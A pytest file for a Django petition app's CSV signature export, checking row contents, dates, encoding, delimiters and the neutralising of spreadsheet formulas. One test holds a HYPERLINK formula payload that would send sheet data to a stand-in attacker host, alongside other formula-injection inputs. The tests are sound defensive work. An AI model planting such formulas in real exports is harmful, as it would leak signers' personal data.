"""export_signatures and the CSV behind it: what staff hand over to ministers."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from itertools import count

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from petition.export import HEADER, signature_csv_lines
from petition.models import Petition, Signature

pytestmark = pytest.mark.django_db

BOM = "\ufeff"
numbers = count()


def make_signature(petition: Petition, *, confirmed: bool = True, **fields: object) -> Signature:
    signed_at = timezone.now() - timedelta(days=2)
    n = next(numbers)
    values: dict[str, object] = {
        "first_name": "Camille",
        "last_name": "Durand",
        "email": f"camille.durand.{n}@example.org",
        "country": "FR",
        "postal_code": "75011",
        "language": "fr",
        "created_at": signed_at,
        "confirmed_at": signed_at + timedelta(minutes=5) if confirmed else None,
        **fields,
    }
    return Signature.objects.create(petition=petition, **values)


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_signatures", *args, stdout=out)
    return out.getvalue()


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter))


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    header, *rows = parse(text, delimiter)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_only_confirmed_signatures_of_the_petition_are_exported(petition):
    other = Petition.objects.create(slug="other", title="Other", introduction="Another text.")
    make_signature(petition, email="confirmed@example.org")
    make_signature(petition, email="pending@example.org", confirmed=False)
    make_signature(other, email="elsewhere@example.org")

    rows = rows_of(export(petition.slug))

    assert [row["email"] for row in rows] == ["confirmed@example.org"]


def test_a_header_then_one_row_per_signature_oldest_first(petition):
    first = make_signature(
        petition,
        first_name="Élodie",
        last_name="Lefèvre",
        email="elodie@example.org",
        postal_code="69003",
        wants_news=True,
    )
    second = make_signature(
        petition,
        first_name="Oliver",
        last_name="O'Brien",
        email="oliver@example.net",
        country="GB",
        postal_code="SW1A 1AA",
        language="en",
        unsubscribed_at=timezone.now(),
    )

    header, *rows = parse(export(petition.slug))

    assert tuple(header) == HEADER
    assert rows == [
        [
            "Élodie",
            "Lefèvre",
            "elodie@example.org",
            "FR",
            "69003",
            "fr",
            first.created_at.replace(microsecond=0).isoformat(),
            first.confirmed_at.replace(microsecond=0).isoformat(),
            "yes",
            "no",
        ],
        [
            "Oliver",
            "O'Brien",
            "oliver@example.net",
            "GB",
            "SW1A 1AA",
            "en",
            second.created_at.replace(microsecond=0).isoformat(),
            second.confirmed_at.replace(microsecond=0).isoformat(),
            "no",
            "yes",
        ],
    ]


def test_dates_are_iso_8601_with_their_offset(petition):
    signature = make_signature(petition)

    row = rows_of(export(petition.slug))[0]

    signed_at = datetime.fromisoformat(row["signed_at"])
    confirmed_at = datetime.fromisoformat(row["confirmed_at"])
    assert signed_at.utcoffset() is not None
    assert abs(signed_at - signature.created_at) < timedelta(seconds=1)
    assert abs(confirmed_at - signature.confirmed_at) < timedelta(seconds=1)


def test_an_empty_petition_gives_the_header_alone(petition):
    assert parse(export(petition.slug)) == [list(HEADER)]


def test_the_file_starts_with_a_utf8_byte_order_mark_for_excel(petition, tmp_path):
    make_signature(petition, first_name="Zoé")
    path = tmp_path / "signatures.csv"

    export(petition.slug, "--output", str(path))

    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Zoé".encode() in data


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_either_delimiter_splits_the_columns(petition, delimiter):
    make_signature(petition, first_name="Jean", last_name="Martin")

    text = export(petition.slug, "--delimiter", delimiter)

    header_line = text.removeprefix(BOM).splitlines()[0]
    assert header_line == delimiter.join(HEADER)
    row = rows_of(text, delimiter)[0]
    assert (row["first_name"], row["last_name"]) == ("Jean", "Martin")


def test_other_delimiters_are_refused(petition):
    with pytest.raises(CommandError, match="delimiter"):
        export(petition.slug, "--delimiter", "\t")
    with pytest.raises(ValueError, match="delimiter"):
        list(signature_csv_lines(petition, delimiter="|"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("field", ["first_name", "last_name", "postal_code"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(petition, start, field):
    payload = f"{start}SUM(A1:A9)"  # short enough for a postal code
    make_signature(petition, **{field: payload})

    row = rows_of(export(petition.slug))[0]

    assert row[field] == "'" + payload
    assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_link_that_would_leak_the_sheet_is_neutralised(petition):
    payload = '=HYPERLINK("https://attacker.example/?leak="&C2;"Click, please")'
    make_signature(petition, last_name=payload)

    assert rows_of(export(petition.slug))[0]["last_name"] == "'" + payload


def test_a_neutralised_email_address_is_still_recognisable(petition):
    make_signature(petition, email="=1+1@example.org")

    assert rows_of(export(petition.slug))[0]["email"] == "'=1+1@example.org"


def test_ordinary_names_are_left_as_they_are(petition):
    make_signature(petition, first_name="Jean-Pierre", last_name="D'Artagnan - Le Gall")

    row = rows_of(export(petition.slug))[0]

    assert (row["first_name"], row["last_name"]) == ("Jean-Pierre", "D'Artagnan - Le Gall")


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_commas_quotes_and_newlines_in_names_round_trip(petition, delimiter):
    first_name = 'Anne, "Nanou"; la Grande'
    last_name = "Dupont\nde la Tour\r\nFils"
    make_signature(petition, first_name=first_name, last_name=last_name)

    rows = rows_of(export(petition.slug, "--delimiter", delimiter), delimiter)

    assert len(rows) == 1
    assert (rows[0]["first_name"], rows[0]["last_name"]) == (first_name, last_name)


def test_unknown_slug_is_a_clear_error(petition):
    with pytest.raises(CommandError, match=r'No petition has the slug "nope".*' + petition.slug):
        export("nope")


def test_export_makes_one_query_however_many_rows(petition, django_assert_max_num_queries):
    signed_at = timezone.now() - timedelta(days=1)
    Signature.objects.bulk_create(
        Signature(
            petition=petition,
            first_name=f"Prénom {n}",
            last_name="Nom",
            email=f"signer.{n}@example.org",
            language="fr",
            postal_code="75011",
            created_at=signed_at,
            confirmed_at=signed_at,
        )
        for n in range(500)
    )

    with django_assert_max_num_queries(1):
        chunks = list(signature_csv_lines(petition, chunk_size=100))

    assert len(rows_of("".join(chunks))) == 500
    assert len(chunks) == 1 + 5  # the header, then one chunk per hundred rows


def test_output_writes_the_file_and_says_how_many_rows(petition, tmp_path):
    for _ in range(3):
        make_signature(petition)
    make_signature(petition, confirmed=False)
    path = tmp_path / "export.csv"

    message = export(petition.slug, "--output", str(path))

    assert len(rows_of(path.read_text(encoding="utf-8"))) == 3
    assert "Wrote 3 confirmed signatures" in message
    assert str(path) in message


def test_standard_output_is_utf8_whatever_the_terminal_encoding(petition):
    make_signature(petition, first_name="Œdipe", last_name="Ångström")
    raw = io.BytesIO()
    latin1_terminal = io.TextIOWrapper(raw, encoding="latin-1", newline="")

    call_command("export_signatures", petition.slug, stdout=latin1_terminal)
    latin1_terminal.flush()

    row = rows_of(raw.getvalue().decode("utf-8"))[0]
    assert (row["first_name"], row["last_name"]) == ("Œdipe", "Ångström")


def test_the_command_makes_no_query_per_row(petition, tmp_path, django_assert_max_num_queries):
    for _ in range(20):
        make_signature(petition)

    # The petition, the rows, and the count reported at the end.
    with django_assert_max_num_queries(3):
        export(petition.slug, "--output", str(tmp_path / "export.csv"))
